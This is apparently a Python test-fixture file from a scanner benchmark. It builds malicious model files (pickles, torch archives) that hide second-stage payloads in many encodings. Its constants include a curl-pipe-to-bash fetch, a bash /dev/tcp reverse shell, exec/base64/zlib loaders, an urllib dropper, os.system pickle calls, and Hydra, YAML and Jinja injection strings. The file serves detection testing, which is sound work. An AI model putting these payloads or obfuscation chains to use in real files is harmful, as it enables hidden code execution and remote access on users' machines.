"""Second stages in strings: what starts programs lies in the data, in one encoding or several, for another to run.

Nothing in most of these files runs them: the one that does is in the program that loads the model, or in a file beside
it. Where the file itself hands one to a call, the call is what is found.
"""

from __future__ import annotations

import base64
import bz2
import gzip
import lzma
import marshal
import struct
import zlib
from collections.abc import Callable
from functools import partial
from pathlib import Path

from bench.detection.build.pickled import built, extended, made
from bench.detection.sample import Part, Sample, rules
from tests.malicious.pickles import FLOATS, archive, call, literal, named, stream, tensor, torch_legacy

_PYTHON = b"import os\nos.system('id > /dev/null')\n"
_FETCH = b"curl -fsSL http://203.0.113.9/stage2.sh | bash"
_REVERSE = b"bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'"
_LOADER = b"exec(__import__('zlib').decompress(__import__('base64').b64decode(blob)))"
_DROPPER = b"import urllib.request, subprocess\nsubprocess.run(['sh', '-c', urllib.request.urlopen(u).read()])\n"
_CODE = marshal.dumps(compile(_PYTHON, "stage2", "exec"))
_SYSTEM = stream(call("posix", "system", "id"))
_ELF = (
    b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0x400078, 64, 0, 0, 64, 56, 1, 0, 0, 0)
)
_PE = b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + struct.pack("<HH", 0x8664, 0) + bytes(16)

_B64: Callable[[bytes], bytes] = base64.b64encode
_ROT13 = bytes.maketrans(
    b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ", b"nopqrstuvwxyzabcdefghijklmNOPQRSTUVWXYZABCDEFGHIJKLM"
)
_STAGES = "second stages in a model's data: ATT&CK T1027.009, T1027.013, T1140"
_SPLIT = "payloads that are carried in tensors and metadata: Leviathan and HiddenLayer on stegomalware in models, 2022"
_NAMES = "Hydra's instantiate, called on a model's configuration: CVE-2025-23304"
_MARSHAL = "marshalled code in pickles and in Lambda layers: JFrog, 2024"


def _pickled(value: object, path: Path) -> None:
    path.write_bytes(stream({"epoch": 3, "notes": value}))


def _in_archive(value: object, path: Path) -> None:
    archive({"weight": tensor("0", (2, 3), (3, 1), 6), "notes": value}, {"0": FLOATS}, path)


def _in_legacy(value: object, path: Path) -> None:
    torch_legacy(literal(value), path)


_WRITERS = {"model.pkl": _pickled, "model.pt": _in_archive, "model.pth": _in_legacy}


def _sample(
    name: str,
    technique: str,
    value: object,
    static: str = "text.encoded",
    file: str = "model.pkl",
    why: str = _STAGES,
    watched: str = "",
) -> Sample:
    build = partial(_WRITERS[file], value)
    return Sample(f"encoded_{name}", Part.MALICIOUS, technique, why, file, build, rules(static), rules(watched))


def _text(data: bytes) -> str:
    return data.decode("latin-1")


SAMPLES = (
    _sample("base64", "Python that starts a program, in base64", _text(_B64(_PYTHON))),
    _sample("base64_archive", "the same in a torch archive", _text(_B64(_PYTHON)), file="model.pt"),
    _sample("base64_legacy", "the same in torch's old format", _text(_B64(_PYTHON)), file="model.pth"),
    _sample("base64_lines", "in base64 of short lines", _text(base64.encodebytes(_DROPPER * 3))),
    _sample("base64_url", "in base64 for URLs, without padding", _text(base64.urlsafe_b64encode(_PYTHON).rstrip(b"="))),
    _sample("base64_twice", "in base64 of base64", _text(_B64(_B64(_PYTHON)))),
    _sample("base64_reversed", "in base64 that is written backwards", _text(_B64(_PYTHON)[::-1])),
    _sample("base64_zlib", "deflated, in base64", _text(_B64(zlib.compress(_DROPPER)))),
    _sample("base64_gzip", "gzip-compressed, in base64", _text(_B64(gzip.compress(_DROPPER, mtime=0)))),
    _sample("base64_wide", "a command line in UTF-16 and base64, as PowerShell takes it",
            _text(_B64(_text(_FETCH).encode("utf-16-le")))),
    _sample("hex", "a loader of another stage, in hexadecimal", _LOADER.hex()),
    _sample("hex_lzma", "xz-compressed, in hexadecimal", lzma.compress(_DROPPER).hex(), file="model.pt"),
    _sample("zlib", "deflated bytes", zlib.compress(_PYTHON)),
    _sample("bzip2", "bzip2-compressed bytes, in a torch archive", bz2.compress(_DROPPER), file="model.pt"),
    _sample("base85", "in base85", _text(base64.b85encode(_DROPPER))),
    _sample("ascii85", "in Adobe's base85", _text(base64.a85encode(_DROPPER, adobe=True))),
    _sample("base32", "in base32", _text(base64.b32encode(_PYTHON))),
    _sample("rot13", "by rot13", _text(_PYTHON.translate(_ROT13))),
    _sample("reversed", "written backwards", _text(_PYTHON[::-1])),
    _sample("escapes", "each byte by its number", "".join(f"\\x{byte:02x}" for byte in _PYTHON)),
    _sample("shell", "a line that fetches a script and runs it, in base64", _text(_B64(_FETCH))),
    _sample("reverse_shell", "a shell for somebody elsewhere, in base64", _text(_B64(_REVERSE)), file="model.pt"),
    _sample("four_layers", "base64 of base64 of deflated base64",
            _text(_B64(_B64(zlib.compress(_B64(_PYTHON)))))),
    _sample("in_pickle", "in base64, in a pickle that lies in bytes", stream({"stage": _text(_B64(_PYTHON))})),
    _sample("code", "a marshalled code object in bytes", _CODE, "text.code", why=_MARSHAL),
    _sample("code_base64", "a marshalled code object in base64, as Keras' Lambda layers hold one", _text(_B64(_CODE)),
            "text.code", "model.pt", _MARSHAL),
    _sample("code_zlib", "a marshalled code object, deflated", zlib.compress(_CODE), "text.code", why=_MARSHAL),
    _sample("code_file", "a compiled Python file in bytes", b"\xa7\r\r\n" + bytes(12) + _CODE, "text.code",
            why=_MARSHAL),
    _sample("code_text", "a marshalled code object as text of one character a byte", _text(_CODE), "text.code",
            why=_MARSHAL),
    _sample("pickle", "a pickle with a call in bytes", _SYSTEM, "text.pickle.dangerous"),
    _sample("pickle_base64", "a pickle with a call in base64", _text(_B64(_SYSTEM)), "text.pickle.dangerous",
            "model.pt"),
    _sample("pickle_zlib", "a pickle with a call, deflated and in base64", _text(_B64(zlib.compress(_SYSTEM))),
            "text.pickle.dangerous"),
    _sample("pickle_broken", "a pickle in bytes that breaks off behind its call", _SYSTEM[:-1] + b"\xff",
            "text.pickle.dangerous"),
    _sample("pickle_text", "a pickle of protocol 0 as text", "cposix\nsystem\n(S'id'\ntR.", "text.pickle.dangerous"),
    _sample("pickle_twice", "a pickle in a pickle in a pickle", stream({"a": _SYSTEM}), "text.pickle.dangerous"),
    _sample("elf", "an ELF file in bytes", _ELF, "text.program", why=_SPLIT),
    _sample("elf_base64", "an ELF file in base64", _text(_B64(_ELF)), "text.program", "model.pt", _SPLIT),
    _sample("elf_gzip", "an ELF file, compressed", gzip.compress(_ELF, mtime=0), "text.program", why=_SPLIT),
    _sample("pe_hex", "a Windows executable in hexadecimal", _PE.hex(), "text.program", why=_SPLIT),
)  # fmt: skip

_CALLED = "global.dangerous.called global.unknown.called"
# What is handed to a call: the call is the finding, and the string says what it does.
_HANDED = (
    _sample("executed", "base64 that the file decodes and executes",
            call("builtins", "exec", call("base64", "b64decode", _text(_B64(_PYTHON)))), _CALLED,
            watched="event.fork event.program"),
    _sample("executed_zlib", "deflated source that the file inflates and executes",
            call("builtins", "exec", call("zlib", "decompress", zlib.compress(_PYTHON))), _CALLED,
            watched="event.fork event.program"),
    _sample("handed", "a command line for a class of nobody's", call("acme.jobs", "Runner", _text(_FETCH)),
            "global.unknown.called text.handed"),
    _sample("handed_state", "a command line as the state of a class of nobody's",
            built(made(named("acme.jobs", "Runner")), (_text(_FETCH), 3)), "text.handed"),
    _sample("handed_items", "a command line among the items of a class of nobody's",
            extended(made(named("acme.jobs", "Queue")), "fetch", _text(_FETCH)), "text.handed"),
    _sample("handed_numbers", "a command line that a class of nobody's is given letter by letter",
            call("acme.jobs", "Runner", list(_FETCH)), "text.handed"),
    _sample("instantiated", "a configuration that has Hydra start a program",
            {"model": {"_target_": "os.system", "command": "id"}}, "text.named.dangerous",
            "model.pt", _NAMES),
    _sample("instantiated_yaml", "a configuration in YAML whose tag starts a program",
            "model:\n  hook: !!python/object/apply:os.system [id]\n", "text.named.dangerous", why=_NAMES),
    _sample("template", "a tokenizer's template that puts the names together by which it leaves Jinja",
            "{% for m in messages %}{{ m|attr('__cl' ~ 'ass__') }}{% endfor %}", "text.template",
            "model.pt", "CVE-2024-34359"),
    _sample("named", "encoded beside a callable that is only named",
            [named("os", "system"), _text(_B64(_PYTHON))], "global.dangerous.named"),
)  # fmt: skip
SAMPLES += _HANDED
